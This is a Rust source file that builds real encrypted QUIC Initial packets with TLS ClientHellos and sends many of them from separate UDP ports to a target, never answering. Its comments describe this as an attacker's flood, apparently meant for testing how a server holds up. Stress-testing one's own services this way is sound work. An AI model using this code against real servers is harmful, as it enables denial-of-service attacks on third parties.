//! The first packets of QUIC connections (RFC 9000, RFC 9001), as an attacker sends them: real ClientHellos, from clients
//! that never answer.

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::ops::Range;
use std::sync::Arc;

use rustls::SupportedCipherSuite;
use rustls::crypto::ring::cipher_suite::TLS13_AES_128_GCM_SHA256;
use rustls::quic::{ClientConnection, Keys, Version};

use crate::tls::ClientTls;

/// Length of a first packet: the least that servers accept (RFC 9000 section 14.1).
const PACKET_LEN: usize = 1_200;
/// Length of a packet number, and of the tag after the payload.
const NUMBER_LEN: usize = 4;
const TAG_LEN: usize = 16;

/// Returns a first packet for a server of this application protocol. `seed` makes the connection ids.
fn initial(alpn: &[u8], seed: u64) -> Vec<u8> {
    let tls = ClientTls { alpn: vec![alpn.to_vec()], ..ClientTls::default() };
    let tls = Arc::new(tls.build().expect("a configuration"));
    let name = "dns.example".try_into().expect("a name");
    let id = seed.to_be_bytes();
    // The transport parameter initial_source_connection_id (RFC 9000 section 7.3).
    let parameters = [&[0x0f, 8][..], &id].concat();
    let mut client = ClientConnection::new(tls, Version::V1, name, parameters).expect("a client");
    let mut hello = Vec::new();
    client.write_hs(&mut hello);

    let mut header = vec![0xc3, 0, 0, 0, 1, 8];
    header.extend_from_slice(&id);
    header.push(8);
    header.extend_from_slice(&id);
    // No token; the length of the rest in two octets.
    header.push(0);
    let rest = PACKET_LEN - header.len() - 2;
    header.extend_from_slice(&(0x4000 | rest as u16).to_be_bytes());
    let number_at = header.len();
    header.extend_from_slice(&[0; NUMBER_LEN]);
    let mut payload = [&[6, 0][..], &(0x4000 | hello.len() as u16).to_be_bytes(), &hello].concat();
    payload.resize(rest - NUMBER_LEN - TAG_LEN, 0);

    let SupportedCipherSuite::Tls13(suite) = TLS13_AES_128_GCM_SHA256 else { unreachable!() };
    let quic = suite.quic.expect("the suite belongs to QUIC");
    let keys = Keys::initial(Version::V1, suite, quic, &id, rustls::Side::Client).local;
    let tag = keys.packet.encrypt_in_place(0, &header, &mut payload).expect("encrypts");
    let (first, number) = header.split_at_mut(number_at);
    keys.header
        .encrypt_in_place(&payload[..16], &mut first[0], &mut number[..NUMBER_LEN])
        .expect("protects");
    [&header[..], &payload, tag.as_ref()].concat()
}

/// Sends first packets of QUIC connections, one for each seed and each from a port of its own of `from`, and reads no reply. A packet
/// for which this host has no port or no room is not sent.
pub fn send_initials(from: IpAddr, to: SocketAddr, alpn: &[u8], seeds: Range<u64>) {
    for seed in seeds {
        let Ok(socket) = UdpSocket::bind((from, 0)) else { continue };
        // A full buffer drops it, which does not matter for a flood.
        let _ = socket.send_to(&initial(alpn, seed), to);
    }
}
